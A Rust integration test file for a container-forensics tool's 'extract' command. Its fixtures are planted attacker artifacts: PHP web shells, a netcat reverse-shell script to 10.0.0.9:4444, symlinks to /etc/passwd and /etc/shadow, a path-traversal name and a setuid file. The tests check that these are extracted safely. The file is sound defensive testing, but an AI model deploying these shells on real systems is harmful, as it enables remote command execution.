//! `ctriage extract` on evidence built in code: a file, a tree and the whole merged view of a
//! save (whiteouts and opaque directories applied) into a folder or a tar, as of a layer; an
//! export; a data root; links and `..` names that never leave the output; nothing
//! overwritten, the evidence untouched; unknown containers; a truncated layer (exit 2).

use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::Value;

use crate::image_build::{step, Image, Layer};
use crate::util::{bin, run, sha256_file};

const T: &str = "2026-01-01T00:00:00Z";

/// A three-layer save: a base, the attacker's layer (a shell, a whiteout, an opaque dir, a
/// link to the host's passwd, a `..` name, a setuid file, a non-UTF-8 name), a change.
fn image() -> Image {
    let base = Layer::new()
        .dir("etc")
        .file("etc/passwd", b"root:x:0:0::/root:/bin/sh\n")
        .dir("tmp")
        .file("tmp/old", b"old")
        .dir("var/www")
        .file("var/www/index.html", b"<html>shop</html>")
        .dir("opt/app")
        .file("opt/app/lib.jar", b"jar")
        .build();
    let attack = Layer::new()
        .file("var/www/shell.php", b"<?php system($_GET['c']); ?>")
        .file("tmp/.wh.old", b"")
        .dir("opt/app")
        .file("opt/app/.wh..wh..opq", b"")
        .file("opt/app/new.jar", b"new")
        .symlink("var/www/passwd", "/etc/passwd")
        .symlink("var/www/up", "../../../..")
        .raw_name(b"../../../escaped", b"climbed")
        .file_with("usr/bin/sudo2", b"suid", 0o4755, 1_600_000_000)
        .hardlink("usr/bin/sudo3", "usr/bin/sudo2")
        .char_device("dev/mem2", 1, 1)
        .raw_name(b"odd\xffname", b"bytes")
        .build();
    let change = Layer::new().file("var/www/shell.php", b"<?php eval($_POST['x']); ?>").build();
    Image::new("t:extract")
        .layer(base, step(T, "ADD rootfs /"))
        .layer(attack, step(T, "COPY . /"))
        .layer(change, step(T, "RUN edit"))
}

/// Write the save into a fresh evidence folder; returns (tempdir, evidence folder).
fn evidence() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let ev = dir.path().join("evidence");
    std::fs::create_dir(&ev).unwrap();
    std::fs::write(ev.join("image.tar"), image().docker_save()).unwrap();
    (dir, ev)
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// `ctriage extract BUNDLE --container C` and the rest.
fn ex(bundle: &str, container: &str, rest: &[&str]) -> std::process::Output {
    let mut args = vec!["extract", bundle, "--container", container];
    args.extend(rest);
    run(&args)
}

fn manifest(p: &Path) -> Value {
    serde_json::from_slice(&std::fs::read(p).unwrap()).unwrap()
}

fn entry<'a>(m: &'a Value, path: &str) -> &'a Value {
    m["entries"].as_array().unwrap().iter().find(|e| e["path"] == path).unwrap_or(&Value::Null)
}

/// Every path below `root` (relative), walked without following links, and whether any is
/// a symbolic link.
fn walk(root: &Path) -> (Vec<String>, bool) {
    let mut out = vec![];
    let mut links = false;
    for e in walkdir::WalkDir::new(root).follow_links(false).sort_by_file_name().min_depth(1) {
        let e = e.unwrap();
        links |= e.path_is_symlink();
        out.push(String::from_utf8_lossy(e.path().strip_prefix(root).unwrap().as_os_str().as_bytes()).into());
    }
    (out, links)
}

/// The evidence folder's files with contents and mtimes.
fn snapshot(dir: &Path) -> Vec<(PathBuf, Vec<u8>, std::time::SystemTime)> {
    walkdir::WalkDir::new(dir)
        .sort_by_file_name()
        .into_iter()
        .map(|e| {
            let e = e.unwrap();
            let m = e.path().symlink_metadata().unwrap();
            let body = if m.is_file() { std::fs::read(e.path()).unwrap() } else { vec![] };
            (e.path().to_path_buf(), body, m.modified().unwrap())
        })
        .collect()
}

#[test]
fn a_file_from_the_top_layer_with_its_proof() {
    let (dir, ev) = evidence();
    let before = snapshot(&ev);
    let out = dir.path().join("out");
    let o = ex(s(&ev), "t:extract", &["--path", "/var/www/shell.php", "--to", s(&out)]);
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    let f = out.join("rootfs/var/www/shell.php");
    assert_eq!(std::fs::read(&f).unwrap(), b"<?php eval($_POST['x']); ?>");
    let m = manifest(&out.join("MANIFEST.json"));
    let e = entry(&m, "/var/www/shell.php");
    assert_eq!(e["action"], "written");
    assert_eq!(e["layer"], 2);
    assert_eq!(e["sha256"], sha256_file(&f));
    assert_eq!(e["source"]["artifact"], "image.tar");
    assert_eq!(e["source"]["members"].as_array().unwrap().len(), 2, "blob > member: {e}");
    assert_eq!(m["layer"], 2);
    // Only the file and its parent directories.
    assert_eq!(walk(&out.join("rootfs")).0, ["var", "var/www", "var/www/shell.php"]);
    assert_eq!(before, snapshot(&ev), "the evidence changed");
    let stdout = String::from_utf8_lossy(&o.stdout);
    assert!(stdout.contains("1 file(s)") && stdout.contains("as of layer 2 of 0..2"), "{stdout}");
}

#[test]
fn a_tree_as_of_a_layer_and_every_hash_matches_sha256sum() {
    let (dir, ev) = evidence();
    let out = dir.path().join("out");
    let o = ex(s(&ev), "t:extract", &["--path", "/var/www", "--layer", "1", "--to", s(&out)]);
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    let root = out.join("rootfs");
    let (paths, links) = walk(&root);
    assert_eq!(paths, ["var", "var/www", "var/www/index.html", "var/www/shell.php"]);
    assert!(!links, "a symbolic link was made");
    assert_eq!(std::fs::read(root.join("var/www/shell.php")).unwrap(), b"<?php system($_GET['c']); ?>");
    let m = manifest(&out.join("MANIFEST.json"));
    assert_eq!(entry(&m, "/var/www/passwd")["action"], "recorded");
    assert_eq!(entry(&m, "/var/www/passwd")["link_target"], "/etc/passwd");
    // sha256sum agrees with every hash the manifest gives.
    let sums = Command::new("sha256sum")
        .args(["var/www/index.html", "var/www/shell.php"])
        .current_dir(&root)
        .output()
        .expect("sha256sum");
    for line in String::from_utf8_lossy(&sums.stdout).lines() {
        let (hash, name) = line.split_once("  ").unwrap();
        assert_eq!(entry(&m, &format!("/{name}"))["sha256"], hash, "{name}");
    }
    // The size limit: past it, files are listed as skipped and the exit says so.
    let small = dir.path().join("small");
    let o = ex(s(&ev), "t:extract", &["--path", "/var/www", "--max-extract-bytes", "20", "--to", s(&small)]);
    assert_eq!(o.status.code(), Some(2), "{}", String::from_utf8_lossy(&o.stdout));
    let m = manifest(&small.join("MANIFEST.json"));
    let actions: Vec<&str> = ["/var/www/index.html", "/var/www/shell.php"]
        .iter()
        .map(|p| entry(&m, p)["action"].as_str().unwrap())
        .collect();
    assert_eq!(actions, ["written", "skipped"]);
    assert!(String::from_utf8_lossy(&o.stdout).contains("--max-extract-bytes"));
    // A layer the image does not have is a usage error.
    let o = ex(s(&ev), "t:extract", &["--all", "--layer", "9", "--to", s(&dir.path().join("x"))]);
    assert_eq!(o.status.code(), Some(64));
    assert!(String::from_utf8_lossy(&o.stderr).contains("numbered 0..2"));
}

#[test]
fn all_as_a_tar_equals_the_merged_view_with_whiteouts_applied() {
    let (dir, ev) = evidence();
    let m = dir.path().join("m.json");
    let mut child = Command::new(bin())
        .args(["extract", s(&ev), "--container", "t:extract", "--all", "--to", "-", "--manifest", s(&m)])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let tar_t = Command::new("tar").arg("-t").stdin(child.stdout.take().unwrap()).output().unwrap();
    assert_eq!(child.wait().unwrap().code(), Some(0));
    assert!(tar_t.status.success());
    let mut listed: Vec<String> =
        String::from_utf8_lossy(&tar_t.stdout).lines().map(|l| l.trim_end_matches('/').to_string()).collect();
    listed.sort();
    let (v, _) = crate::util::run_json(&["layers", s(&ev.join("image.tar")), "--tree"]);
    let mut tree: Vec<String> = v["trees"][0]["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["path"].as_str().unwrap().trim_start_matches('/').to_string())
        .collect();
    tree.sort();
    // The non-UTF-8 name is listed by tar as bytes; compare the rest.
    let odd = |p: &String| p.starts_with("odd") || p == "dev/mem2";
    assert_eq!(
        listed.iter().filter(|p| !odd(p)).collect::<Vec<_>>(),
        tree.iter().filter(|p| !odd(p)).collect::<Vec<_>>()
    );
    assert!(!listed.contains(&"tmp/old".to_string()), "whiteout not applied");
    assert!(!listed.contains(&"opt/app/lib.jar".to_string()), "opaque dir not applied");
    assert!(listed.contains(&"opt/app/new.jar".to_string()));
    assert!(listed.contains(&"escaped".to_string()), "`../../../escaped` stays at the root: {listed:?}");
    assert!(listed.iter().all(|p| !p.starts_with('/') && !p.split('/').any(|c| c == "..")));
    let man = manifest(&m);
    assert_eq!(man["files"], "-");
    assert_eq!(entry(&man, "/usr/bin/sudo2")["mode"], "4755");
    assert_eq!(entry(&man, "/usr/bin/sudo2")["mode_written"], "0755");
    // A hard link is a link member to the file written before it; a device is only listed.
    assert_eq!(entry(&man, "/usr/bin/sudo3")["action"], "linked");
    assert_eq!(entry(&man, "/usr/bin/sudo3")["sha256"], entry(&man, "/usr/bin/sudo2")["sha256"]);
    assert_eq!(entry(&man, "/dev/mem2")["action"], "recorded");
    assert!(!listed.contains(&"dev/mem2".to_string()));
}

#[test]
fn links_and_traversal_names_never_leave_the_folder() {
    let (dir, ev) = evidence();
    let out = dir.path().join("out");
    let o = ex(s(&ev), "t:extract", &["--all", "--to", s(&out)]);
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    let (paths, links) = walk(&out);
    assert!(!links, "a symbolic link was made: {paths:?}");
    assert!(paths.contains(&"rootfs/escaped".to_string()));
    assert!(!dir.path().join("escaped").exists() && !out.join("escaped").exists());
    // The setuid bit is not written; the non-UTF-8 name is written byte for byte.
    let sudo = out.join("rootfs/usr/bin/sudo2");
    assert_eq!(std::fs::metadata(&sudo).unwrap().permissions().mode() & 0o7777, 0o755);
    let odd = out.join("rootfs").join(std::ffi::OsStr::from_bytes(b"odd\xffname"));
    assert_eq!(std::fs::read(odd).unwrap(), b"bytes");
    let m = manifest(&out.join("MANIFEST.json"));
    let e = entry(&m, "/odd\\xffname");
    assert_eq!(e["path_hex"], "6f6464ff6e616d65");
    assert_eq!(entry(&m, "/var/www/up")["action"], "recorded");
    // A device is listed, never made; a hard link is a second name of its file.
    assert_eq!(entry(&m, "/dev/mem2")["action"], "recorded");
    assert!(!out.join("rootfs/dev/mem2").exists());
    assert_eq!(std::fs::read(out.join("rootfs/usr/bin/sudo3")).unwrap(), b"suid");
    assert_eq!(entry(&m, "/usr/bin/sudo3")["action"], "linked");
    assert_eq!(entry(&m, "/usr/bin/sudo3")["sha256"], sha256_file(&out.join("rootfs/usr/bin/sudo3")));
    // A hard link asked for alone is written from the file it names.
    let to = dir.path().join("h");
    let o = ex(s(&ev), "t:extract", &["--path", "/usr/bin/sudo3", "--to", s(&to)]);
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(std::fs::read(to.join("rootfs/usr/bin/sudo3")).unwrap(), b"suid");
    // Asking for a path through a link is refused, not followed.
    let o = ex(s(&ev), "t:extract", &["--path", "/var/www/up/etc/passwd", "--to", s(&dir.path().join("y"))]);
    assert_eq!(o.status.code(), Some(64));
    assert!(String::from_utf8_lossy(&o.stderr).contains("never follows"));
}

#[test]
fn nothing_is_overwritten_and_the_evidence_is_never_the_target() {
    let (dir, ev) = evidence();
    let out = dir.path().join("out");
    std::fs::create_dir(&out).unwrap();
    std::fs::write(out.join("keep"), b"mine").unwrap();
    let o = ex(s(&ev), "t:extract", &["--all", "--to", s(&out)]);
    assert_eq!(o.status.code(), Some(64));
    assert!(String::from_utf8_lossy(&o.stderr).contains("not empty"));
    assert_eq!(std::fs::read(out.join("keep")).unwrap(), b"mine");
    let o = ex(s(&ev), "t:extract", &["--all", "--to", s(&ev.join("x"))]);
    assert_eq!(o.status.code(), Some(64));
    assert!(String::from_utf8_lossy(&o.stderr).contains("inside the evidence"));
    assert!(!ev.join("x").exists());
    let o = ex(s(&ev), "t:extract", &["--all", "--to", "-", "--manifest", s(&out.join("keep"))]);
    assert_eq!(o.status.code(), Some(64));
    assert_eq!(std::fs::read(out.join("keep")).unwrap(), b"mine");
    // An empty folder is fine.
    let empty = dir.path().join("empty");
    std::fs::create_dir(&empty).unwrap();
    let o = ex(s(&ev), "t:extract", &["--path", "/etc/passwd", "--to", s(&empty)]);
    assert_eq!(o.status.code(), Some(0));
}

#[test]
fn an_unknown_or_ambiguous_container_lists_the_candidates() {
    let (dir, ev) = evidence();
    std::fs::write(ev.join("export.tar"), crate::image_build::export(Layer::new().file("a", b"a"))).unwrap();
    // A tag with terminal escapes is listed escaped.
    let evil = Image::new("evil\u{1b}[2J:1").layer(Layer::new().file("b", b"b").build(), step(T, "x"));
    std::fs::write(ev.join("evil.tar"), evil.docker_save()).unwrap();
    let o = ex(s(&ev), "nope", &["--all", "--to", s(&dir.path().join("o"))]);
    assert_eq!(o.status.code(), Some(64));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("image t:extract") && err.contains("export export.tar"), "{err}");
    assert!(err.contains("evil\\x1b[2J:1") && !err.contains('\u{1b}'), "{err}");
    assert!(!dir.path().join("o").exists(), "nothing is made for a usage error");
    // The same tag in two archives: ambiguous, both listed.
    std::fs::write(ev.join("again.tar"), image().docker_save()).unwrap();
    let o = ex(s(&ev), "t:extract", &["--all", "--to", s(&dir.path().join("o"))]);
    assert_eq!(o.status.code(), Some(64));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("names 2 of the bundle's") && err.contains("again.tar") && err.contains("image.tar"),
        "{err}"
    );
}

#[test]
fn an_export_is_read_flat() {
    let dir = tempfile::tempdir().unwrap();
    let export = dir.path().join("export.tar");
    // In an export a `.wh.` name is an ordinary file.
    std::fs::write(
        &export,
        crate::image_build::export(Layer::new().dir("tmp").file("tmp/.wh.x", b"w").file(".dockerenv", b"")),
    )
    .unwrap();
    let out = dir.path().join("out");
    let o = ex(s(&export), s(&export), &["--all", "--to", s(&out)]);
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(std::fs::read(out.join("rootfs/tmp/.wh.x")).unwrap(), b"w");
    assert!(out.join("rootfs/.dockerenv").is_file());
}

#[test]
fn a_data_root_container_with_its_image_and_read_write_layer() {
    let dir = tempfile::tempdir().unwrap();
    crate::dataroot::build(dir.path(), false);
    let before = snapshot(dir.path());
    let out = tempfile::tempdir().unwrap();
    let to = out.path().join("web");
    let o = ex(s(dir.path()), "web", &["--all", "--to", s(&to)]);
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    let root = to.join("rootfs");
    assert_eq!(std::fs::read(root.join("var/www/shell.php")).unwrap(), b"<?php system($_GET['c']); ?>");
    assert_eq!(std::fs::read(root.join("bin/sh")).unwrap(), b"\x7fELF busybox");
    // The upper dir's link to the host's /etc/shadow is recorded, never made or read.
    assert!(std::fs::symlink_metadata(root.join("var/www/leak")).is_err());
    let m = manifest(&to.join("MANIFEST.json"));
    assert_eq!(entry(&m, "/var/www/leak")["link_target"], "/etc/shadow");
    assert_eq!(entry(&m, "/var/www/leak")["action"], "recorded");
    let shell = entry(&m, "/var/www/shell.php");
    assert!(shell["source"]["artifact"].as_str().unwrap().starts_with("var/lib/docker/overlay2/"), "{shell}");
    assert_eq!(shell["sha256"], sha256_file(&root.join("var/www/shell.php")));
    assert_eq!(before, snapshot(dir.path()), "the evidence changed");
    // By id prefix, as of the image's own layer: no shell yet.
    let to = out.path().join("base");
    let o = ex(s(dir.path()), "1111", &["--all", "--layer", "0", "--to", s(&to)]);
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(!to.join("rootfs/var/www/shell.php").exists());
}

#[test]
fn an_unreadable_artifact_elsewhere_in_the_bundle_does_not_fail_the_extraction() {
    let (dir, ev) = evidence();
    // A gzip cut short: discovery says so, but the image extracted from is whole.
    let lines: String = (0..100_000).map(|i| format!("{i}\n")).collect();
    let mut gz = crate::image_build::gz(lines.as_bytes());
    gz.truncate(3000);
    std::fs::write(ev.join("app.log.gz"), gz).unwrap();
    let out = dir.path().join("out");
    let o = ex(s(&ev), "t:extract", &["--path", "/etc/passwd", "--to", s(&out)]);
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stdout));
    let stdout = String::from_utf8_lossy(&o.stdout);
    assert!(stdout.contains("about other artifacts of the bundle"), "{stdout}");
    let m = manifest(&out.join("MANIFEST.json"));
    assert!(m["diagnostics"].as_array().unwrap().iter().any(|d| d["locator"]["artifact"] == "app.log.gz"));
}

#[test]
fn a_podman_container_from_containers_storage() {
    let dir = tempfile::tempdir().unwrap();
    crate::dataroot_runtimes::build(dir.path());
    let out = tempfile::tempdir().unwrap();
    let to = out.path().join("web");
    let o = ex(s(dir.path()), "web", &["--all", "--to", s(&to)]);
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stdout));
    assert_eq!(
        std::fs::read(to.join("rootfs/tmp/.x/agent.sh")).unwrap(),
        b"#!/bin/sh\nnc 10.0.0.9 4444 -e sh\n"
    );
    assert_eq!(std::fs::read(to.join("rootfs/bin/sh")).unwrap(), b"\x7fELF");
    let m = manifest(&to.join("MANIFEST.json"));
    assert_eq!(entry(&m, "/tmp/.x/agent.sh")["layer"], 1);
    assert_eq!(entry(&m, "/bin/sh")["layer"], 0);
}

#[test]
fn a_truncated_layer_gives_what_was_read_and_exit_2() {
    let dir = tempfile::tempdir().unwrap();
    let big = Layer::new().file("first", b"first file").file("second", &vec![b'x'; 5000]).build();
    let cut = big[..1024 + 512 + 1000].to_vec();
    let img = Image::new("t:cut").layer(cut, step(T, "cut"));
    let p = dir.path().join("i.tar");
    std::fs::write(&p, img.docker_save()).unwrap();
    let out = dir.path().join("out");
    let o = ex(s(&p), "t:cut", &["--all", "--to", s(&out)]);
    assert_eq!(o.status.code(), Some(2), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(std::fs::read(out.join("rootfs/first")).unwrap(), b"first file");
    assert!(!out.join("rootfs/second").exists());
    let m = manifest(&out.join("MANIFEST.json"));
    assert!(m["diagnostics"].as_array().unwrap().iter().any(|d| d["level"] == "error"), "{m}");
    assert!(String::from_utf8_lossy(&o.stdout).contains("error:"));
}

#[test]
fn a_tar_of_a_data_root_and_an_oci_layout_give_the_same_files() {
    let dir = tempfile::tempdir().unwrap();
    crate::dataroot::build(dir.path(), false);
    let tar = dir.path().join("root.tar.gz");
    let st = Command::new("tar").arg("-czf").arg(&tar).arg("-C").arg(dir.path()).arg("var").status().unwrap();
    assert!(st.success());
    let out = tempfile::tempdir().unwrap();
    let to = out.path().join("t");
    let o = ex(s(&tar), "web", &["--path", "/var/www", "--to", s(&to)]);
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(std::fs::read(to.join("rootfs/var/www/shell.php")).unwrap(), b"<?php system($_GET['c']); ?>");
    assert_eq!(std::fs::read(to.join("rootfs/var/www/index.html")).unwrap(), b"<html>shop</html>");
    // The same image as an OCI layout folder (gzip layers).
    let oci = out.path().join("oci");
    let img = image();
    img.oci_dir(&oci);
    let to = out.path().join("o");
    let o = ex(s(&oci), "t:extract", &["--path", "/var/www/shell.php", "--to", s(&to)]);
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(std::fs::read(to.join("rootfs/var/www/shell.php")).unwrap(), b"<?php eval($_POST['x']); ?>");
}
